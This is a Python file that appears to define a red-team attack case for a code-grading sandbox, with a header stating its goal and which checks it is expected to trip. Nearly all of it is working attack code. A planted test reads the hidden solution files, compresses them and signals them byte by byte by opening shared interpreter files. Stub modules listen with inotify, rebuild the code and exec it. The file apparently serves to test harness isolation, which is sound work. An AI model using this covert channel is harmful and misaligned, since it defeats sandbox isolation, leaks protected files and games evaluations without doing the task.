# /// attack
# tries = "hands in nothing but one test, which reads the solution that it is laid over and spells it out by opening files of the interpreter's, which all sandboxes share; the parts watch them by inotify and become it"
# base = "blank"
# only = "[msv]*"
# slow = true
# fails = ["matmul.*", "scan.*", "gpt.*", "cache.*"]
# ///
COMMON = """
import ctypes, glob, os, struct, sys, time, zlib
import torch

FILES = sorted(glob.glob(os.path.dirname(torch.__file__) + "/**/*.py", recursive=True))[-514:]
"""
TEST = (
    COMMON
    + """
def test_nothing():
    data = zlib.compress("\\0".join(open(f"/submission/{part}.py").read() for part in ("minigpt", "matmul", "scan")).encode(), 9)
    until = time.monotonic() + 5
    while time.monotonic() < until:
        os.close(os.open(FILES[512], os.O_RDONLY))  # it begins
        for i, byte in enumerate(data):  # the same twice in a row would be told once
            os.close(os.open(FILES[byte + 256 * (i % 2)], os.O_RDONLY))
            time.sleep(0.00002)
        os.close(os.open(FILES[513], os.O_RDONLY))
        time.sleep(0.05)
"""
)
PART = (
    COMMON
    + """
def hear(at):
    libc = ctypes.CDLL(None)
    fd = libc.inotify_init1(0)
    known = {libc.inotify_add_watch(fd, path.encode(), 0x20): i for i, path in enumerate(FILES)}  # IN_OPEN
    said, begun = bytearray(), False
    while True:
        for wd, _, _, size in struct.iter_unpack("iIII", os.read(fd, 1 << 20)):
            i = known.get(wd, -1)
            if i == 512:
                said, begun = bytearray(), True
            elif i == 513 and begun:
                try:
                    return zlib.decompress(bytes(said)).decode().split("\\0")[at]
                except zlib.error:
                    begun = False
            elif i >= 0:
                said.append(i % 256)


text = hear(@AT@)
print("heard", len(text), "characters")
exec(compile(text, __file__, "exec"), globals())
"""
)


def build(home):
    for at, part in enumerate(("minigpt", "matmul", "scan")):
        (home / f"{part}.py").write_text(PART.replace("@AT@", str(at)))
    (home / "tests").mkdir()
    (home / "tests" / "test_all.py").write_text(TEST)
    return home
